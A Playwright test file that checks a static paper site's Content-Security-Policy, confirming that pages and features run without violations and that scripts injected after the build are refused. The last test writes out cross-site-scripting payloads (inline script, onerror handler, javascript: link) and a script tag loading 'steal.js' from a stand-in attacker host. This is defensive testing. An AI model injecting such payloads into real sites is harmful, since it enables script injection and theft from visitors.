/**
 * The Content-Security-Policy in Chromium: every kind of page and feature works under it without a single
 * violation, and a script injected into a built page after the build is refused, which proves the policy bites.
 */
import type { Page } from "@playwright/test";
import { expect, isCspViolation, test } from "../support/fixtures";
import { filterGroup, openSearch, resultLinks, searchInput, waitForSearchReady } from "../support/search-page";
import { readPapersJson } from "./built-site";

interface Violation {
  directive: string;
  blocked: string;
}

/** Records `securitypolicyviolation` events from the first script on, across reloads of the page. */
async function recordViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.addInitScript(() => {
    const seen: Violation[] = [];
    (window as { __cspViolations?: Violation[] }).__cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (event) => {
      seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
    });
  });
  return () => page.evaluate(() => (window as { __cspViolations?: Violation[] }).__cspViolations ?? []);
}

const policyOf = (page: Page): Promise<string | null> =>
  page.locator('meta[http-equiv="content-security-policy"]').getAttribute("content");

test("every kind of page carries the policy and breaks none of it", async ({ page, site }) => {
  const violations = await recordViolations(page);
  const { papers, topics, digests } = await readPapersJson(site.outDir);
  const paper = papers[0];
  const topic = topics[0];
  const digest = digests[0];
  if (!paper || !topic || !digest) throw new Error("papers.json lists no paper, topic or digest");
  const year = paper.published?.slice(0, 4);
  const paths = [
    "",
    `papers/${paper.slug}/`,
    "topics/",
    `topics/${topic.slug}/`,
    "digests/",
    `digests/${digest.id}/`,
    "timeline/",
    ...(year ? [`timeline/${year}/`] : []),
    "no-such-page/",
  ];
  for (const path of paths) {
    await page.goto(path);
    const policy = await policyOf(page);
    expect(policy, `${path || "home"} has a policy`).toContain("script-src 'self'");
    expect(policy).not.toMatch(/'unsafe-inline'|'unsafe-eval'/);
    expect(await violations(), `${path || "home"} breaks no directive`).toEqual([]);
  }
});

test("search, filters, theme, copy and the service worker work under the policy", async ({ page, context }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const violations = await recordViolations(page);

  await openSearch(page);
  await searchInput(page).fill("learning");
  await waitForSearchReady(page);
  await expect(resultLinks(page).first()).toBeVisible();
  await filterGroup(page, "Topic").getByRole("checkbox").first().check();
  await waitForSearchReady(page);
  await expect(resultLinks(page).first()).toBeVisible();
  expect(await violations(), "Pagefind's WebAssembly and the result list run under the policy").toEqual([]);

  await resultLinks(page).first().click();
  await page.getByRole("combobox", { name: "Theme" }).selectOption("Dark");
  await expect(page.locator("html")).toHaveAttribute("data-theme", "dark");
  await page.reload();
  // The stored choice applies before first paint: the hashed inline script ran.
  await expect(page.locator("html")).toHaveAttribute("data-theme", "dark");
  const cite = page.getByRole("region", { name: "Cite" });
  await cite.getByRole("button", { name: "Copy BibTeX" }).click();
  await expect(cite.getByRole("status")).toHaveText("Copied to clipboard");

  const registered = await page.evaluate(async () => {
    const registration = await navigator.serviceWorker.ready;
    return registration.active?.scriptURL ?? "";
  });
  expect(registered).toMatch(/\/sw\.js$/);
  expect(await violations()).toEqual([]);
});

test("a script injected into a built page after the build does not run", async ({ context, site }) => {
  // A page of its own: the shared fixture page fails any test whose page reports a violation.
  const page = await context.newPage();
  const violations = await recordViolations(page);
  const consoleErrors: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error" && isCspViolation(message.text())) consoleErrors.push(message.text());
  });
  const { papers } = await readPapersJson(site.outDir);
  const paper = papers[0];
  if (!paper) throw new Error("papers.json lists no papers");
  const injected = [
    `<script>window.__injected = "inline script"</script>`,
    `<img src="no-such-image.png" onerror="window.__injected = 'event handler'" alt="">`,
    `<a id="probe" href="javascript:window.__injected='javascript: link'">probe</a>`,
    `<script src="https://evil.example/steal.js"></script>`,
  ].join("");
  // Refused by the policy before any request; the route only makes sure no test ever reaches the internet.
  await page.route("https://evil.example/**", (route) => route.abort());
  await page.route(`**/papers/${paper.slug}/`, async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace("</main>", `${injected}</main>`);
    await route.fulfill({ response, body: html });
  });
  await page.goto(`papers/${paper.slug}/`);
  await page.locator("#probe").click();
  await expect.poll(async () => (await violations()).length).toBeGreaterThanOrEqual(4);
  expect(await page.evaluate(() => (window as { __injected?: string }).__injected)).toBeUndefined();
  const directives = new Set((await violations()).map((violation) => violation.directive));
  expect([...directives].sort()).toEqual(["script-src-attr", "script-src-elem"]);
  expect(consoleErrors.length).toBeGreaterThan(0);
  await page.close();
});
